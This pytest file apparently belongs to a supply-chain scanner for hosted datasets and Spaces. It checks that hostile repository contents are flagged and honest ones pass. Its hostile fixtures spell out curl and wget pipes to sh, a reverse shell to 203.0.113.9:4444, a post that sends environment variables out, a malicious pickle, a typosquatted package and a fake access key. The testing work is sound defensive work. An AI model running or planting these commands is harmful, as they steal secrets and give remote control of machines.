"""Datasets and Spaces: what of the checks applies to them, and what honest ones look like."""

from __future__ import annotations

from typing import Any

import pytest

from fixtures.example_hub import files
from tests.e2e.hubs import audited, established
from tests.loopback import LoopbackHub
from trustaudit.report.model import TrustReport

TEXT = "# About\n\nMade from public text, described at length, with an evaluation.\n" * 12
CALLS = files.calling_pickle("posix", "system")
NUMPY = b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
DOCKERFILE = "FROM python:3.12-slim\nCOPY . .\nRUN {}\nCMD python app.py\n"
SHELL = "import os, socket\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\nos.execl('/bin/sh', 'sh')\n"


def dataset(hub: LoopbackHub, contents: dict[str, Any]) -> TrustReport:
    established(hub)
    hub.dataset("lab/rows", {"README.md": TEXT, **contents}, card={"license": "cc-by-4.0"}, created="2023-01-01")
    return audited(hub, "datasets/lab/rows")


def space(hub: LoopbackHub, contents: dict[str, Any], sdk: str = "gradio") -> TrustReport:
    established(hub)
    hub.space("lab/demo", {"README.md": TEXT, **contents}, card={"license": "mit", "sdk": sdk}, created="2023-01-01")
    return audited(hub, "spaces/lab/demo")


@pytest.mark.parametrize(
    ("contents", "rule"),
    [
        (
            {"rows.py": "import os\nimport datasets\n\nos.system('curl http://203.0.113.9/a | sh')\n"},
            "code-download-execute",
        ),
        ({"rows.py": "import datasets\n\n\nclass Rows(datasets.GeneratorBasedBuilder):\n    pass\n"}, "dataset-script"),
        ({"data/train.pkl": CALLS}, "pickle-dangerous-call"),
        ({"data/train.pt": files.torch_zip(CALLS)}, "pickle-dangerous-call"),
        ({"data/train.npy": NUMPY + CALLS}, "pickle-dangerous-call"),
    ],
)
def test_hostile_datasets(loopback_hub: LoopbackHub, contents: dict[str, Any], rule: str) -> None:
    report = dataset(loopback_hub, contents)
    assert report.verdict in ("block", "review")
    assert rule in {finding.rule for finding in report.findings}


@pytest.mark.parametrize(
    "contents",
    [
        {"data/train-00000-of-00001.parquet": b"PAR1" + b"\0" * 100 + b"PAR1"},
        {"train.jsonl": '{"text": "import os; os.system(1)"}\n{"text": "<script>alert(1)</script>"}\n' * 4},
        {"images/1.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "metadata.csv": "file_name,text\n1.png,hi\n"},
        {
            "tools/prepare.py": "import pandas as pd\n\npd.read_csv('x.csv').to_parquet('y.parquet')\n",
            "a.csv": "a\n1\n",
        },
    ],
)
def test_honest_datasets(loopback_hub: LoopbackHub, contents: dict[str, Any]) -> None:
    assert dataset(loopback_hub, contents).verdict == "pass"


@pytest.mark.parametrize(
    ("contents", "rule"),
    [
        (
            {"app.py": "import os, requests\n\nrequests.post('http://203.0.113.9/c', data=dict(os.environ))\n"},
            "code-credential-access",
        ),
        ({"app.py": "import base64\n\nexec(base64.b64decode('cHJpbnQoMSk='))\n"}, "code-hidden-payload"),
        ({"app.py": SHELL}, "code-reverse-shell"),
        ({"app.py": "print(1)\n", "m.pt": files.torch_zip(CALLS)}, "pickle-dangerous-call"),
        ({"app.py": "print(1)\n", "requirements.txt": "gradio\nreqeusts\n"}, "dependency-imitation"),
        (
            {"app.py": "print(1)\n", "requirements.txt": "x @ https://203.0.113.9/x-1.0.tar.gz\n"},
            "dependency-direct-url",
        ),
        ({"app.py": "print(1)\n", "start.sh": "#!/bin/sh\nwget -qO- http://203.0.113.9/a | sh\n"}, "script-suspicious"),
        ({"Dockerfile": DOCKERFILE.format("curl http://203.0.113.9/x.sh | bash")}, "script-suspicious"),
        ({"app.py": "KEY = 'AKIA" + "Z7QXW3NPLKJ4MRTV'\n"}, "secret-exposed"),
    ],
)
def test_hostile_spaces(loopback_hub: LoopbackHub, contents: dict[str, Any], rule: str) -> None:
    report = space(loopback_hub, contents)
    assert report.verdict in ("block", "review")
    assert rule in {finding.rule for finding in report.findings if finding.severity.rank > 1}


@pytest.mark.parametrize(
    ("contents", "sdk"),
    [
        (
            {
                "app.py": "import os\nimport gradio as gr\nfrom huggingface_hub import InferenceClient\n\n"
                "client = InferenceClient(token=os.environ.get('HF_TOKEN'))\n"
                "gr.Interface(client.text_generation, 'text', 'text').launch()\n",
                "requirements.txt": "gradio\nhuggingface_hub>=0.26\n--extra-index-url https://wheels.invalid/cpu\n",
            },
            "gradio",
        ),
        (
            {
                "app.py": "import subprocess\n\n\ndef convert(path):\n    subprocess.run(['ffmpeg', '-i', path, 'a.wav'])\n",
                "packages.txt": "ffmpeg\n",
            },
            "gradio",
        ),
        ({"Dockerfile": DOCKERFILE.format("pip install -r requirements.txt"), "app.py": "print(1)\n"}, "docker"),
        ({"Dockerfile": DOCKERFILE.format("curl -LsSf https://astral.sh/uv/install.sh | sh"), "app.py": ""}, "docker"),
        ({"index.html": "<html><script src='app.js'></script></html>", "app.js": "document.title = 'x'"}, "static"),
    ],
)
def test_honest_spaces(loopback_hub: LoopbackHub, contents: dict[str, Any], sdk: str) -> None:
    report = space(loopback_hub, contents, sdk)
    assert (report.verdict, [item.rule for item in report.findings if item.severity.rank > 1]) == ("pass", [])
